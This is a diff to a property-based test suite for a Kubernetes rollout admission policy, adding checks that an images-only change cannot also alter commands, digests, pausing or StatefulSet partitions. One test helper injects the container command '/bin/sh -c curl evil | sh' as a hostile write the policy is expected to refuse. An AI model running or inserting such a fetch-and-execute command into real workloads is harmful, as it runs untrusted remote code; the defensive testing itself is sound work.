@@ -9,13 +9,17 @@ patches are applied. Every pod-template change that decide_rollout admits must
 be covered by a change that targets it and holds the required approvals from
 users who really were approvers when they approved, none of them its requester.
 
-Restart, rollback and break-glass are excluded by construction: updates only
-change images, no rollout is ever recorded as Succeeded, and nobody is in an
-emergency group (break-glass annotations are attempted, and must be refused).
+Restart, rollback and break-glass are excluded by construction: no rollout is
+ever recorded as Succeeded, and nobody is in an emergency group (break-glass
+annotations are attempted, and must be refused). Rollouts may also pin a digest
+under a tag, edit the command beside the image, pause or resume a Deployment and
+raise or lower a StatefulSet's partition: changes declare images only, so an
+admitted write may move nothing but images, and a release must be covered too.
 """
 
 from __future__ import annotations
 
+import copy
 from dataclasses import dataclass, field
 from typing import Any
 
@@ -96,6 +100,7 @@ class Create:
     targets: tuple[tuple[int, str], ...]  # (workload index, image of container api)
     window: str
     approvals_in_body: bool
+    pinned: bool = False  # the change declares DIGEST beside each tag it names
 
 
 @dataclass(frozen=True)
@@ -143,7 +148,13 @@ class Roll:
     break_glass: bool
     # A controller ownerReference the team wrote itself: it must prove nothing.
     forged_owner: bool = False
+    # What else the write does (issue 10): a digest under the tag, a command beside the
+    # image, pausing or resuming a Deployment, raising or lowering a StatefulSet partition.
+    extra: str = "none"
 
+
+EXTRAS = ("digest", "other-digest", "command", "pause", "resume", "partition-high", "partition-low")
+OTHER_DIGEST = "sha256:" + "b" * 64
 
 workloads = st.sampled_from([0, 0, 0, 1, 2, 3, 4, 5, 6])
 creates = st.builds(
@@ -160,6 +171,7 @@ creates = st.builds(
     ).map(tuple),
     st.sampled_from(["open"] * 3 + list(WINDOWS)),
     st.sampled_from([False] * 5 + [True]),
+    st.sampled_from([False] * 3 + [True]),
 )
 approves = st.builds(
     Approve,
@@ -194,6 +206,7 @@ rolls = st.builds(
     images,
     st.sampled_from([False] * 4 + [True]),
     st.sampled_from([False] * 3 + [True]),
+    st.sampled_from(("none",) * 7 + EXTRAS),
 )
 
 
@@ -241,6 +254,49 @@ def shaped(body: dict[str, Any], forged_owner: bool) -> dict[str, Any]:
         owner = {"kind": OWNERS[kind], "name": "owner", "uid": "u", "controller": True}
         body["metadata"]["ownerReferences"] = [owner]
     return body
+
+
+def digested(image: str, extra: str) -> str:
+    """The image, pinned to a digest the write chooses when the extra says so."""
+    digests = {"digest": DIGEST, "other-digest": OTHER_DIGEST}
+    if extra not in digests or "@" in image:
+        return image
+    return f"{image}@{digests[extra]}"
+
+
+def pod_spec_of(body: dict[str, Any]) -> dict[str, Any]:
+    spec: dict[str, Any] = body["spec"]
+    if body["kind"] == "Pod":
+        return spec
+    if body["kind"] == "CronJob":
+        spec = spec["jobTemplate"]["spec"]
+    template_spec: dict[str, Any] = spec["template"]["spec"]
+    return template_spec
+
+
+def with_extra(new: dict[str, Any], old: dict[str, Any] | None, extra: str) -> dict[str, Any]:
+    """The write's body once it does `extra` too (releases start from the stored body)."""
+    kind = new["kind"]
+    if extra in ("resume", "partition-low") and old is not None:
+        new = copy.deepcopy(old)
+        new["spec"].pop("paused", None)
+        new["spec"].pop("updateStrategy", None)
+    elif extra == "command":
+        pod_spec_of(new)["containers"][0]["command"] = ["/bin/sh", "-c", "curl evil | sh"]
+    elif extra == "pause" and kind == "Deployment":
+        new["spec"]["paused"] = True
+    elif extra == "partition-high" and kind == "StatefulSet":
+        new["spec"]["updateStrategy"] = {"type": "RollingUpdate", "rollingUpdate": {"partition": 5}}
+    return new
+
+
+def without_images(template: Any) -> Any:
+    """A pod template with every container's image left out (the oracle's own copy)."""
+    template = copy.deepcopy(dict(template))
+    for key in ("containers", "initContainers"):
+        for container in (template.get("spec") or {}).get(key) or []:
+            container.pop("image", None)
+    return template
 
 
 def really_approves(soc: ServiceOnCall, user: User) -> bool:
@@ -304,7 +360,13 @@ class World:
             op.change,
             type=op.type,
             targets=[
-                target(WORKLOADS[i][1], WORKLOADS[i][0], {"api": image}) for i, image in op.targets
+                target(
+                    WORKLOADS[i][1],
+                    WORKLOADS[i][0],
+                    {"api": image},
+                    {"api": DIGEST} if op.pinned and "@" not in image else None,
+                )
+                for i, image in op.targets
             ],
             window=WINDOWS[op.window],
             requester=op.claimed_requester,
@@ -422,10 +484,12 @@ class World:
         kind, name, _ = WORKLOADS[op.workload]
         old = self.workloads.get(op.workload)
         annotations = {BREAK_GLASS: f"incident by {op.user.username}"} if op.break_glass else {}
+        image = digested(op.image, op.extra)
         new = shaped(
-            workload_body(name, kind=kind, images={"api": op.image}, annotations=annotations),
+            workload_body(name, kind=kind, images={"api": image}, annotations=annotations),
             op.forged_owner,
         )
+        new = with_extra(new, old, op.extra)
         req = request(old, new, user=op.user)
         indexed = [ChangeFacts.from_model(c) for c in self.changes.values()]
         decision = decide_rollout(req, self.policy, indexed, NOW)
@@ -435,6 +499,8 @@ class World:
             assert decision.reason is Reason.APPROVED_CHANGE, decision
             assert decision.change is not None
             self.assert_covered(decision.change.name, req.new)
+            if req.old is not None:  # a change here declares images only: nothing else moves
+                assert without_images(req.old.template) == without_images(req.new.template), op
             self.admitted += 1
         if decision.allowed and keep:
             self.workloads[op.workload] = new
@@ -451,6 +517,10 @@ class World:
         declared = {i.container: i for i in spec_target.images}
         for container, actual in workload.images.items():
             assert image_matches(declared[container].image, actual, declared[container].digest)
+            if "@" in actual:  # a digest runs only when the change declared that digest
+                want = declared[container]
+                pinned = want.digest or want.image.partition("@")[2]
+                assert actual.partition("@")[2] == pinned, (actual, want)
         real = self.approved_by.get(name, set()) - {self.creator[name]}
         required = self.soc.spec.change_policy.required_approvals
         assert len(real) >= required, (
@@ -527,3 +597,28 @@ def test_the_world_keeps_a_requester_from_approving_their_own_change() -> None:
     assert world.changes["chg-a"].spec.approvals == []
     assert world.admitted == 0
     assert world.workloads[0] == workload_body()
+
+
+def test_the_world_refuses_what_an_images_only_change_does_not_declare() -> None:
+    """Non-vacuous for the new writes: a command, an undeclared digest, a later release."""
+    dev, _, manager, *_ = USERS
+    image = IMAGES[1]
+    world = World.start(required_approvals=1)
+    ops = [
+        Create("chg-a", dev, None, "Normal", ((0, image), (1, image)), "open", False),
+        Approve("chg-a", manager, "Approved", None, 1),
+        Roll(0, dev, image, False, extra="command"),  # more than images: refused
+        Roll(0, dev, image, False, extra="other-digest"),  # a digest nobody declared: refused
+        Roll(0, dev, image, False, extra="pause"),  # held back, under the change
+        Roll(1, dev, image, False, extra="partition-high"),
+        Cancel("chg-a", dev),
+        Roll(0, dev, image, False, extra="resume"),  # the change is gone: refused
+        Roll(1, dev, image, False, extra="partition-low"),  # refused
+    ]
+
+    for op in ops:
+        world.apply(op)
+
+    assert world.admitted == 2
+    assert world.workloads[0]["spec"]["paused"] is True
+    assert world.workloads[1]["spec"]["updateStrategy"]["rollingUpdate"]["partition"] == 5
